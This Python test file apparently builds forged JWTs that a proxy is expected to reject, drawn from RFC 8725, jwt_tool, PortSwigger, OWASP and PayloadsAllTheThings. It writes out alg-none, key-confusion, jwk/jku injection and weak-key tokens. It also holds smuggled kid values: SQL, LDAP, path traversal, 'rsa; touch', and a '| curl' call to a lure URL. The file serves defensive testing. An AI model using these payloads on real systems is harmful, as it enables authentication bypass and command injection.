"""Tokens of attackers, by the list that publishes the attack and its item there. None of them is to be accepted.

The issuer `users` publishes the keys of `PUBLISHED`, `partner` one of its own, `pool` those of a user pool. A token that the attacker
could not sign is signed with a key of the issuer's where the list has it so: then the claims are what is wrong.
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

import world
from signing import ED25519, EVIL_P256, EVIL_RSA, OTHER_RSA, P256, P384, RSA, b64, compact, jwk, now, stored, token, unb64

ISSUER, PARTNER = "https://login.example", "https://partner.example"
OCTETS = b"a symmetric key that somebody published by mistake"

PUBLISHED = [
    jwk(RSA, "rsa", alg="RS256", use="sig"),
    jwk(OTHER_RSA, "any", use="sig"),
    jwk(P256, "p256", use="sig"),
    jwk(P384, "p384", use="sig"),
    jwk(ED25519, "ed25519"),
    jwk(EVIL_RSA, "for-encryption", use="enc"),
    {**jwk(EVIL_RSA, "wraps"), "key_ops": ["encrypt", "wrapKey"]},
    jwk(stored("rsa1024.pem"), "short"),
    {"kty": "oct", "kid": "shared", "k": b64(OCTETS)},
    jwk(stored("secp256k1.pem"), "koblitz"),
]
HEADER = {"alg": "RS256", "kid": "rsa", "typ": "JWT"}
ES256, ES384 = {"alg": "ES256", "kid": "p256"}, {"alg": "ES384", "kid": "p384"}
EDDSA, PS256 = {"alg": "EdDSA", "kid": "ed25519"}, {"alg": "PS256", "kid": "any"}
# The orders of the groups of P-256 and Ed25519.
N256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
L25519 = 2**252 + 27742317777372353535851937790883648493


@dataclass(frozen=True)
class Lure:
    """What would be seen of a broker that does what a token says: a request to `url`, or the file `file`."""

    url: str
    file: str


@dataclass(frozen=True)
class Attack:
    """A token, and what the proxy is told. One with control characters cannot be shown in a header."""

    item: str
    token: str
    issuer: str = "users"
    status: int = 401

    @property
    def in_header(self) -> bool:
        return self.token.isprintable() and self.token.isascii()


def claims(**changes) -> dict:
    """Claims that are accepted, with changes; None takes one away."""
    at = now()
    good = {"iss": ISSUER, "sub": "ann", "aud": "api", "client_id": "c1", "scope": "orders/read", "iat": at, "nbf": at, "exp": at + 900}
    return {name: value for name, value in {**good, **changes}.items() if value is not None}


def pool_claims(**changes) -> dict:
    at = now()
    good = {"iss": world.ISSUER, "sub": "ann", "client_id": "c1", "token_use": "access", "scope": "orders/read", "iat": at, "exp": at + 900}
    return {name: value for name, value in {**good, **changes}.items() if value is not None}


def good(header: dict = HEADER, key=RSA) -> str:
    return token(header, claims(), key)


def accepted(lure: Lure) -> dict[str, tuple[str, str]]:
    """What shows that an attack is refused for what it is: the same without it, by issuer."""
    signers = {"RS256": (HEADER, RSA), "ES256": (ES256, P256), "ES384": (ES384, P384), "EdDSA": (EDDSA, ED25519)}
    found = {f"a good {name}": ("users", good(*signer)) for name, signer in signers.items()}
    for name in ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512"):
        found[f"a good {name} by a key for all"] = ("users", good({"alg": name, "kid": "any"}, OTHER_RSA))
    found["another way of writing aud"] = ("users", token(HEADER, claims(aud=["x", "api"])))
    for kind in ("JWT", "jwt", "at+jwt", "AT+JWT", "application/at+jwt"):
        found[f"typ {kind}"] = ("users", token({**HEADER, "typ": kind}, claims()))
    found["key material in the header, beside a good signature"] = ("users", good({**HEADER, "jku": lure.url, "jwk": jwk(EVIL_RSA, "rsa")}))
    for item, expiry in (("within leeway", now() - 5), ("with a fraction", now() + 60.25), ("of the last second of the year 9999", 253402300799)):
        found[f"exp {item}"] = ("users", token(HEADER, claims(exp=expiry)))
    found["iat to come"] = ("users", token(HEADER, claims(iat=now() + 600)))
    found["many keys in an object"] = ("users", token(HEADER, claims(**{f"k{number}": number for number in range(200)})))
    found["the partner's own"] = ("partner", token({"alg": "RS256", "kid": "rsa"}, claims(iss=PARTNER), OTHER_RSA))
    found["the pool's own"] = ("pool", token({"alg": "RS256", "kid": "rsa"}, pool_claims()))
    return found


def unsigned(algorithm, **header) -> str:
    named = {name: value for name, value in {**HEADER, "alg": algorithm, **header}.items() if value is not None}
    return f"{b64(compact(named))}.{b64(compact(claims()))}."


def keyed(key: bytes | str, algorithm: str = "HS256", **header) -> str:
    return token({**HEADER, "alg": algorithm, **header}, claims(), key.encode() if isinstance(key, str) else key)


def pem(key, form=PublicFormat.SubjectPublicKeyInfo) -> bytes:
    return key.public_key().public_bytes(Encoding.PEM, form)


def confusions(key, kid: str) -> dict[str, bytes]:
    """A public key in every form that a verifier may have held as the secret of HMAC."""
    public = key.public_key()
    info, numbers = PublicFormat.SubjectPublicKeyInfo, jwk(key, kid)
    forms = {
        "PEM": pem(key), "PEM without its last newline": pem(key).rstrip(b"\n"), "PEM with CRLF": pem(key).replace(b"\n", b"\r\n"),
        "DER": public.public_bytes(Encoding.DER, info), "base64 of DER": b"".join(pem(key).splitlines()[1:-1]),
        "JWK": json.dumps(numbers).encode(), "compact JWK": compact(numbers).encode(),
        "the number itself": unb64(numbers.get("n") or numbers["x"]),
    }
    if "n" in numbers:
        forms["PKCS #1 PEM"] = pem(key, PublicFormat.PKCS1)
        forms["PKCS #1 DER"] = public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
    forms["OpenSSH"] = public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    return forms


def injected(header: dict, key=EVIL_RSA) -> str:
    return token({name: value for name, value in {**HEADER, **header}.items() if value is not None}, claims(), key)


def tampered(**changes) -> str:
    """Other claims under the signature of a good token."""
    head, _, signed = good().split(".")
    return f"{head}.{b64(compact(claims(**changes)))}.{signed}"


def rfc_8725(lure: Lure) -> list[Attack]:
    """RFC 8725 section 2, "Threats and Vulnerabilities", by subsection."""
    encoded = compact(claims()).encode()
    jwe = {"alg": "ECDH-ES", "enc": "A256GCM", "epk": {"kty": "EC", "crv": "P-256", "x": b64(b"\1" * 32), "y": b64(b"\2" * 32)}}
    found = [
        Attack("2.1 alg changed to none", unsigned("none")),
        Attack("2.1 RS256 changed to HS256, keyed with the public key", keyed(pem(RSA))),
        Attack("2.2 a weak symmetric key", keyed("secret")),
        Attack("2.3 a signed token in a signed token", token({**HEADER, "cty": "JWT"}, good())),
        Attack("2.3 a token that is encrypted and not signed", ".".join([b64('{"alg":"RSA-OAEP","enc":"A256GCM"}'), *[b64(b"x" * 16)] * 4])),
        Attack("2.4 compressed claims", token({**HEADER, "zip": "DEF"}, zlib.compress(encoded, wbits=-15))),
        Attack("2.5 an ephemeral key that is not on its curve", ".".join([b64(compact(jwe)), "", *[b64(b"x" * 16)] * 3])),
    ]
    for name in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"):
        found.append(Attack(f"2.6 claims in {name}", token(HEADER, encoded.decode().encode(name))))
    found += [
        Attack("2.6 a header in utf-16", token(compact(HEADER).encode("utf-16"), encoded, algorithm="RS256")),
        Attack("2.7 a token meant for another recipient", token(HEADER, claims(aud="another-api"))),
        Attack("2.7 a token issued to another client", token(HEADER, claims(client_id="c2"))),
        Attack("2.8 an ID token for an access token", token({"alg": "RS256", "kid": "rsa"}, pool_claims(token_use="id", aud="c1")), "pool"),
        Attack("2.8 a token without a kind for an access token", token({"alg": "RS256", "kid": "rsa"}, pool_claims(token_use=None)), "pool"),
    ]
    kinds = ("logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "oauth-authz-req+jwt", "application/DPoP+JWT", "kb+jwt")
    found += [Attack(f"2.8 typ {kind}", token({**HEADER, "typ": kind}, claims())) for kind in kinds]
    found += [
        Attack("2.9 SQL in kid", injected({"kid": "rsa' OR '1'='1"})),
        Attack("2.9 LDAP in kid", injected({"kid": "*)(uid=*))(|(uid=*"})),
        Attack("2.9 jku names an address", injected({"jku": lure.url + "/jku"})),
        Attack("2.9 x5u names an address", injected({"x5u": lure.url + "/x5u"})),
        Attack("2.9 iss names an address", token({**HEADER, "kid": "evil"}, claims(iss=lure.url), EVIL_RSA)),
    ]
    return found


def jwt_tool(lure: Lure) -> list[Attack]:
    """jwt_tool (ticarpi): its exploits (-X), its playbook, its forced errors and its injections into every claim."""
    broken = good()
    found = [
        Attack("no token", "null"),
        Attack("broken signature", broken[:-4]),
        Attack("-X b blank password", keyed(b"")),
        Attack("-X n null signature", broken.rsplit(".", 1)[0] + "."),
        Attack("-X p psychic signature", token(ES256, claims(), sign=lambda _: unb64("MAYCAQACAQA"))),
        Attack("-X i injected JWKS", injected({"jwk": jwk(EVIL_RSA, "rsa")})),
        Attack("-X i injected JWKS with a kid of its own", injected({"kid": "jwt_tool", "jwk": jwk(EVIL_RSA, "jwt_tool")})),
        Attack("-X s spoofed JWKS", injected({"kid": "jwt_tool", "jku": lure.url + "/jwks.json"})),
        Attack("kid injection: SQL", keyed("1", kid="x' UNION SELECT '1';--")),
    ]
    found += [Attack(f"-X a {name}", unsigned(name)) for name in ("none", "None", "NONE", "nOnE")]
    found += [Attack(f"-X k key confusion, {name}", keyed(key)) for name, key in confusions(RSA, "rsa").items()]
    paths = ("", "../../../../../../dev/null", "/dev/null", "/invalid_path", "|sleep 10", f"| curl {lure.url}/RCE_in_kid")
    found += [Attack(f"null-signed with kid {path!r}", keyed(b"", kid=path)) for path in paths]
    found += [Attack(f"common password {word!r}", keyed(word)) for word in ("secret", "password", "key", "...", "your-256-bit-secret", "changeme")]
    for value in (None, True, False, "jwt_tool", 0, lure.url + "/inject_existing"):
        claimed, signed = broken.split(".")[1:]
        for name in HEADER:
            found.append(Attack(f"{value} in the header's {name}", f"{b64(compact({**HEADER, name: value}))}.{claimed}.{signed}"))
        for name in claims():
            changed = {**json.loads(unb64(claimed)), name: value}
            found.append(Attack(f"{value} in {name}", f"{broken.split('.')[0]}.{b64(compact(changed))}.{signed}"))
    return found


def academies(lure: Lure) -> list[Attack]:
    """PortSwigger's labs, OWASP's WSTG-SESS-10, PayloadsAllTheThings ("JSON Web Token"), and the cheat sheet of 0xn3va."""
    found = [
        Attack("PortSwigger: unverified signature", tampered(sub="administrator")),
        Attack("PortSwigger: flawed signature verification", unsigned("none", kid="rsa")),
        Attack("PortSwigger: weak signing key", keyed("secret1")),
        Attack("PortSwigger: jwk header injection", injected({"jwk": jwk(EVIL_RSA, "rsa")})),
        Attack("PortSwigger: jku header injection", injected({"kid": "rsa", "jku": lure.url + "/exploit"})),
        Attack("PortSwigger: x5c header injection", injected({"x5c": ["TUlJ"]})),
        Attack("PortSwigger: kid header path traversal", keyed(b"\0", kid="../../../../../../../dev/null")),
        Attack("WSTG: claims changed under the signature", tampered(is_admin=True)),
        Attack("WSTG: the none algorithm as NoNe", unsigned("NoNe")),
        Attack("WSTG: weak HMAC key", keyed("admin")),
        Attack("WSTG: attacker provided public key", token({**ES256, "jwk": jwk(EVIL_P256, "p256")}, claims(), EVIL_P256)),
        Attack("PayloadsAllTheThings: Null Signature Attack (CVE-2020-28042)", unsigned("HS256")),
        Attack("PayloadsAllTheThings: Disclosure of a correct signature (CVE-2019-7644)", keyed("wrong")),
        Attack("PayloadsAllTheThings: None Algorithm (CVE-2015-9235), signature left", unsigned("none") + good().rsplit(".", 1)[1]),
        Attack("PayloadsAllTheThings: Key Confusion (CVE-2016-5431), hexadecimal of the PEM", keyed(pem(RSA).hex())),
        Attack("PayloadsAllTheThings: Key Confusion (CVE-2016-5431), base64 of the PEM", keyed(b64(pem(RSA)))),
        Attack("PayloadsAllTheThings: Key Injection (CVE-2018-0114)", injected({"kid": None, "jwk": jwk(EVIL_RSA, "jwt_tool")})),
        Attack("PayloadsAllTheThings: kid names a file of known content", keyed("2\n", kid="/proc/sys/kernel/randomize_va_space")),
        Attack("PayloadsAllTheThings: jku header injection", injected({"jku": lure.url + "/jwks.json", "kid": "id_of_jwks"})),
        Attack("0xn3va cheat sheet: kid is a command", injected({"kid": f"rsa; touch {lure.file}"})),
    ]
    for kid, own in (("rsa", RSA), ("p256", P256)):
        items = confusions(own, kid).items()
        found += [Attack(f"PortSwigger, WSTG: algorithm confusion, {kid}, {form}", keyed(key, kid=kid)) for form, key in items]
    found += [Attack(f"the same with {name}", keyed(pem(RSA), name)) for name in ("HS384", "HS512")]
    return found
